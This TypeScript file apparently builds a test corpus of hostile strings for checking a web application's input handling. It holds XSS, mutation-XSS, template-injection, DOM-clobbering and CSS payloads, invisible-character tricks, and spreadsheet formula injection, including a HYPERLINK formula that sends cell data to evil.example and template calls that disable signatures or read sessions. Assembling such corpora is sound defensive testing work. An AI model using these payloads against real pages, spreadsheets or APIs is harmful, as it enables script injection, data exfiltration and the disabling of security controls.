import { XSS_STRINGS } from './xss-strings.ts';

/**
 * Strings that become a script, an element, a request or a lie where a page takes them for more than
 * words. A script of them calls `alert`, which `watchScripts` counts; requests go to evil.example.
 */

const CALLS = ['alert(1)', 'alert`1`', "top['al'+'ert'](1)", '(0,alert)(1)', 'self?.alert?.(1)'];
const EVENTS = ['load', 'error', 'focus', 'click', 'toggle', 'animationstart', 'pointerenter', 'beforeinput', 'wheel'];
const LOADING = [
  'img src=x',
  'svg',
  'video src=x',
  'input autofocus',
  'details open',
  'body',
  'iframe',
  'object data=x',
];

/** Elements by kind of handler, written so that filters of words do not know them. */
function handlers(): string[] {
  return LOADING.flatMap((element, place) =>
    EVENTS.map((event, index) => {
      const call = CALLS[(place + index) % CALLS.length];
      const slash = element.replaceAll(' ', ['/', '\t', '\n', '\f', ' / '][index % 5] ?? ' ');
      const mixed = index % 2 === 0 ? `on${event}` : `oN${event.toUpperCase()}`;
      return `<${slash} ${mixed}=${index % 3 === 0 ? `"${call}"` : call}>`;
    }),
  );
}

const ADDRESSES = [
  'javascript:alert(1)',
  'JavaScript://%0aalert(1)',
  'java\u200bscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  '//evil.example/a',
  '\\\\evil.example\\a',
  'https://evil.example/a.png',
  'https://127.0.0.1@evil.example/',
  '/\t/evil.example',
  '/../../services/alerts/api/v1/hit/',
  '/session/providers/x',
  '/services/analysis/api/v4/signature/change_status/x/DISABLED/',
  'ws://evil.example/socket',
];

/** Markdown, HTML and CSS around each address. */
function addresses(): string[] {
  return ADDRESSES.flatMap((address) => [
    address,
    `[open](${address})`,
    `![picture](${address})`,
    `[open](<${address}> "title")`,
    `[![x](${address})](${address})`,
    `<${address}>`,
    `<a href="${address}">open</a>`,
    `<img src="${address}">`,
    `<iframe src="${address}"></iframe>`,
    `<link rel=stylesheet href="${address}">`,
    `<form action="${address}"><input type=submit></form>`,
    `<div style="background:url('${address}')">x</div>`,
    `<style>@import url('${address}');*{background:url('${address}')}</style>`,
  ]);
}

const NAMES = [
  ...['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__'],
  ...['document', 'body', 'location', 'cookie', 'getElementById', 'attributes', 'children', 'content', 'main', 'root'],
];

/** Names that members of objects or of the document have. */
function names(): string[] {
  return NAMES.flatMap((name) => [
    name,
    `<a id=${name}><a id=${name} name=x href="clobber:x">`,
    `<form id=${name}><input name=attributes><input name=parentNode>`,
    `{{${name}}}`,
    `{{#with this.${name}}}{{lookup . 'constructor'}}{{/with}}`,
  ]);
}

const TEMPLATES = [
  "{{constructor.constructor('alert(1)')()}}",
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
  "{{#with 'constructor' as |k|}}{{#with (lookup this k) as |f|}}{{f 'alert(1)'}}{{/with}}{{/with}}",
  '{{{raw "<img src=x onerror=alert(1)>"}}}',
  '{{{{raw}}}}<script>alert(1)</script>{{{{/raw}}}}',
  '{{>partial}}{{#> layout}}{{/layout}}{{#*inline "x"}}{{/inline}}',
  "{{fetch '/services/analysis/api/v4/signature/change_status/x/DISABLED/' 'a'}}",
  "{{fetch '/session' 'session'}}",
  '<div ng-app ng-csp ng-click=$event.view.alert(1)>x</div>',
  "<div v-html=\"''.constructor.constructor('alert(1)')()\">x</div>",
  '{% for c in [1] %}{{ c.__class__.__mro__ }}{% endfor %}',
  '<div x-data x-init="alert(1)"></div>',
  '<div data-widget="0" role="alert" aria-label="x" data-mark="x" contenteditable autofocus></div>',
];

/** Markup that changes its meaning when a browser writes and reads it once more. */
const MUTATIONS = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  '<svg><desc><noscript></noscript><style></desc><img src=x onerror=alert(1)>',
  '<template><div><template shadowrootmode=open><script>alert(1)</script></template></div></template>',
  '<select><iframe></select><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

const STYLES = [
  '</style><script>alert(1)</script>',
  'red;background:url(//evil.example/css)',
  'expression(alert(1))',
  '}*{display:none}',
  '@font-face{font-family:x;src:url(//evil.example/font)}',
  'var(--x,url(//evil.example/var))',
  '<div style="position:fixed;inset:0;z-index:99999">cover</div>',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
];

/** Characters that hide, turn or break what stands around them. */
const CHARACTERS = ['\u202e', '\u2066', '\u2069', '\u200b', '\u200d', '\u00ad', '\ufeff', '\u2028', '\u{e0041}'];

function characters(): string[] {
  return CHARACTERS.flatMap((character) => [
    `invoice${character}fdp.exe`,
    `<scr${character}ipt>alert(1)</scr${character}ipt>`,
    `[a${character}b](java${character}script:alert(1))`,
  ]);
}

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x!A1',
  '-2+3+cmd|x!A1',
  '@SUM(1+1)*cmd|x!A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\uff1d1+1',
  '",=1+1,"',
];

/** At least 500 strings, each once. NUL and halves of characters are left out: the program stores none. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...new Set(
    [
      ...XSS_STRINGS,
      ...handlers(),
      ...addresses(),
      ...names(),
      ...TEMPLATES,
      ...MUTATIONS,
      ...STYLES,
      ...characters(),
      ...FORMULAS,
    ].map((string) => string.replaceAll('\u0000', '\u0001').toWellFormed()),
  ),
];

export { FORMULAS };

/** Strings that pages show as they are: no invisible characters, no blanks that are drawn as one. */
export const PLAIN = HOSTILE_STRINGS.filter((string) => /^[!-~]+(?: [!-~]+)*$/.test(string));

/** Joins the strings into as few as possible of at most so many characters; a longer one stands alone. */
export function packs(limit: number, separator = ' '): string[] {
  const found: string[] = [];
  for (const string of HOSTILE_STRINGS) {
    const last = found.at(-1);
    const joined = last === undefined ? string : `${last}${separator}${string}`;
    if (last === undefined || joined.length > limit) found.push(string);
    else found[found.length - 1] = joined;
  }
  return found;
}
